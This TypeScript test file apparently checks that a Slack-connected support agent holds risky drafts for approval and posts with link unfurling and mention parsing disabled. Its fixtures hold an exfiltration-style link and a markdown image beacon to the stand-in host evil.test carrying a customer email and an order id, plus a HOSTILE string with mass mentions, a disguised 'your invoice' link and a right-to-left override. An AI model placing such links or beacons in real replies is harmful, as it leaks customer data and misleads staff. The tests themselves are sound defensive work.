import assert from "node:assert/strict";
import { test } from "node:test";
import { bareCheck } from "#test/guard/output/evidence-world.ts";
import { agentUnderTest, CAPS } from "#test/support/fixtures/turns.ts";
import { scriptedModel } from "#test/support/scripted-model.ts";
import { eventually } from "#test/slack/bench.ts";
import { onFloor } from "#test/slack/approvals/desk-floor.ts";
import { CHANNELS, USERS } from "#test/slack/local-slack.ts";

const HOSTILE =
  "<!channel> <@U0SAM> <!subteam^S1> <https://evil.test/?d=x|your invoice> *bold* ```` \u202Eevil";

onFloor("hostile words on the desk", (floor) => {
  const { bench } = floor;

  /** Every message that went out, or was changed, said that nothing in it may be looked up. */
  const assertQuiet = (...methods: readonly string[]): void => {
    const messages = floor.calls.filter(({ method }) => method.startsWith("chat."));
    const called = new Set(messages.map(({ method }) => method));
    assert.deepEqual([...called].toSorted(), methods.toSorted());
    for (const { method, parameters } of messages) {
      const { unfurl_links, unfurl_media, link_names, parse } = parameters;
      assert.deepEqual(
        { unfurl_links, unfurl_media, link_names, parse },
        { unfurl_links: "false", unfurl_media: "false", link_names: "false", parse: "none" },
        method,
      );
    }
  };

  test("S18 a draft with a link, an image and a mention waits with a warning, shown as text, and no message of the run may unfurl", async (context) => {
    const draft =
      "Look: https://evil.test/?d=ann@customer.test ![x](https://evil.test/p.png?o=789) <@U0SAM> <!here>";
    const reply = { name: "reply", input: { text: draft, kind: "answer", topic: "other" } };
    const look = { name: "get_order_status", input: { order_id: "456" } };
    const model = scriptedModel([{ calls: [look] }, { calls: [reply] }, { calls: [reply] }]);
    const output = bareCheck;
    const { agent } = agentUnderTest({
      model,
      output,
      caps: () => ({ ...CAPS, confidenceMin: 0 }),
    });
    bench.answer((input) => agent.run(input));
    // Replies of this channel go out by themselves where nothing speaks against it.
    bench.rule({ replyAutonomy: () => "auto" });
    const id = await bench.write("Where is my order 456?", { channel: "chat" });
    model.assertUsedUp();
    assert.deepEqual(bench.replies(), []);
    assert.ok(await bench.pending(id), await bench.outcome(id));
    const asked = await floor.asked(id);
    const shown = await floor.cardText(asked);
    assert.match(shown, /⚠️ Check “.*evil\.test/);
    assert.match(shown, /an image is loaded by being seen/);
    assert.ok(shown.includes("<«@U0SAM»> <!here>"));
    // Ned has no role and is told so; Sam lets it go after all; an alert goes out.
    await floor.click(USERS.ned, asked, "approve");
    await eventually(context, () =>
      assert.ok(floor.calls.some(({ method }) => method === "chat.postEphemeral")),
    );
    await floor.click(USERS.sam, asked, "approve");
    await bench.parts.desk.notify(HOSTILE, ["lea@ourshop.test"], "alert", AbortSignal.timeout(9e3));
    await eventually(context, async () => {
      await bench.tick();
      assert.ok(floor.calls.some(({ method }) => method === "chat.update"));
    });
    assertQuiet("chat.postEphemeral", "chat.postMessage", "chat.update");
    const alerted = floor.calls.filter(
      ({ parameters }) => parameters["channel"] === CHANNELS.alerts,
    );
    assert.doesNotMatch(alerted.map(({ parameters }) => parameters["text"]).join(), /<!|<http/);
  });
});
